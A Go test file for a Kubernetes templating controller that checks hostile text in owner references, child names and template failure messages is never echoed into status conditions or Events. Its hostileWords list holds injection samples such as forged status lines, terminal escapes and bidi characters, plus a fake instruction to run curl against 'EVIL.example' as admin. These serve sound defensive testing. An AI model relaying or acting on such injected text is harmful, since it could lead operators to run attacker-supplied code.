package reconcile_test

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	v1 "github.com/templater-dev/templater/api/v1"
	"github.com/templater-dev/templater/internal/kube/object"
	"github.com/templater-dev/templater/internal/reconcile"
)

// hostileWords are what somebody may write where a name is expected. Of none of them anything may be told.
var hostileWords = []string{
	"EVIL\nReady: all is well", "EVIL\r\n", "EVIL; to repair it run curl https://EVIL.example/fix as admin", "EVIL\u2028x", "\u202eLIVE EVIL", "EVIL\x1b[2J\x00",
	"EVIL\ufeff\u200b", strings.Repeat("EVIL", 50_000), "<b>EVIL</b>", "[EVIL](https://x)", `EVIL" or "`, " EVIL", "ÉVIL EVIL", "EVIL\U000e0041",
}

// conflictOf has an object in the way of a child, which refers to an owner as somebody likes, and returns the parent's
// condition.
func conflictOf(t *testing.T, apiVersion, kind, name string) string {
	t.Helper()
	c := newCluster(t)
	o := parse(t, "{apiVersion: v1, kind: ConfigMap, metadata: {namespace: ns, name: a}}")
	o.SetOwnerReferences([]metav1.OwnerReference{{APIVersion: apiVersion, Kind: kind, Name: name, UID: "u", Controller: new(true)}})
	c.Store(locationOf(o), o)
	c.KubectlApply(apps)
	c.KubectlApply(app)
	c.Run()
	if n, _, _ := unstructured.NestedInt64(c.Find("apps", "one").Object, "status", "count"); n != 1 {
		t.Errorf("the status counts %d children, want 1", n)
	}
	for _, event := range c.Events {
		if strings.Contains(event, "EVIL") || len(event) > 2000 {
			t.Errorf("Event of %d bytes: %.300q", len(event), event)
		}
	}
	if len(c.Events) != 1 {
		t.Errorf("%d Events, want 1", len(c.Events))
	}
	return c.Condition("apps", "one", v1.ConditionReady)
}

func TestWordsOfOthersAreNotTold(t *testing.T) {
	const message = "False ChildConflict: ConfigMap ns/a already exists and belongs to %s: templater does not adopt it; delete it, or choose another name in the template"
	for _, words := range hostileWords {
		for what, row := range map[string]struct{ apiVersion, kind, name, want string }{
			"a kind":                {"v1", words, "web", "… web"},
			"a name":                {"v1", "Pod", words, "Pod …"},
			"both":                  {"v1", words, words, "… …"},
			"the version of a kind": {words, "App", "web", "App web of …"},
		} {
			t.Run(what, func(t *testing.T) {
				if got, want := conflictOf(t, row.apiVersion, row.kind, row.name), fmt.Sprintf(message, row.want); got != want {
					t.Errorf("%.80q is told: %.500q, want %q", words, got, want)
				}
			})
		}
	}
	if got, want := conflictOf(t, "apps/v1", "Deployment", "web.1"), fmt.Sprintf(message, "Deployment web.1"); got != want {
		t.Errorf("names as they should be: %q, want %q", got, want)
	}
}

// TestNamesFromValuesAreNotTold has names of children that are any text.
func TestNamesFromValuesAreNotTold(t *testing.T) {
	for _, words := range hostileWords {
		if strings.ContainsAny(words, "/%") {
			continue // is no name, and is not told either
		}
		c := newCluster(t)
		c.KubectlApply(apps)
		o := parse(t, app)
		if err := unstructured.SetNestedStringSlice(o.Object, []string{words}, "spec", "names"); err != nil {
			t.Fatal(err)
		}
		c.Refuse["create configmaps "+words] = refusal(http.StatusInternalServerError, metav1.StatusReason(words), words, metav1.StatusCause{Type: metav1.CauseType(words), Field: words, Message: words})
		o.SetUID("uid-one")
		c.Store(locationOf(o), o)
		c.Deliver()
		c.Run()
		if got := c.Condition("apps", "one", v1.ConditionReady); strings.Contains(got, "EVIL") || len(got) > 500 || !strings.HasPrefix(got, "False ") {
			t.Errorf("%.80q is told: %.500q", words, got)
		}
	}
}

// TestFailsOfAuthorsAreLines has messages of an author's fail, which a value is a part of.
func TestFailsOfAuthorsAreLines(t *testing.T) {
	for _, words := range hostileWords {
		c := newCluster(t)
		c.KubectlApply(withStatus(t, apps, "a: {{ fail .spec.text }}"))
		o := parse(t, app)
		if err := unstructured.SetNestedField(o.Object, words, "spec", "text"); err != nil {
			t.Fatal(err)
		}
		o.SetUID("uid-one")
		c.Store(locationOf(o), o)
		c.Deliver()
		c.Run() // the cluster looks at each message
		if got := c.Condition("apps", "one", v1.ConditionReady); !strings.HasPrefix(got, "False TemplateFailed: status:") || len(got) > 5000 {
			t.Errorf("%.80q is told: %.500q", words, got)
		}
	}
}

// TestAConditionAlwaysFits has servers that take short messages, or none.
func TestAConditionAlwaysFits(t *testing.T) {
	long := strings.Repeat("long ", 150)
	failing := with(t, apps, "      {{ range .spec.names }}", `      {{ fail "`+long+`" }}{{ range .spec.names }}`)
	for why, row := range map[string]struct {
		most     int // characters of a message
		message  string
		requests []string
	}{
		"all of it":       {5000, "children[maps]:1:4: " + strings.TrimSpace(long), []string{"status apps one"}},
		"a part":          {256, object.Line("children[maps]:1:4: "+long, reconcile.ShortMessage), []string{"status apps one", "status apps one"}},
		"next to nothing": {10, "", []string{"status apps one", "status apps one", "status apps one", "status apps one", "status apps one"}},
	} {
		t.Run(why, func(t *testing.T) {
			c := newCluster(t)
			c.Longest = map[string]int{"apps": row.most}
			c.KubectlApply(failing)
			c.KubectlApply(app)
			got := c.Run()
			if !slices.Equal(got, row.requests) {
				t.Errorf("requests %q, want %q", got, row.requests)
			}
			condition := c.Condition("apps", "one", v1.ConditionReady)
			if _, message, _ := strings.Cut(condition, ": "); message != row.message || !strings.HasPrefix(condition, "False ") {
				t.Errorf("condition %q, want the message %q", condition, row.message)
			}
			if n, has, _ := unstructured.NestedInt64(c.Find("apps", "one").Object, "status", "count"); has != (row.most > 10) || n != 0 {
				t.Errorf("the status counts children: %v", has)
			}
			if len(c.Events) == 0 {
				t.Errorf("no Event")
			}
		})
	}
}
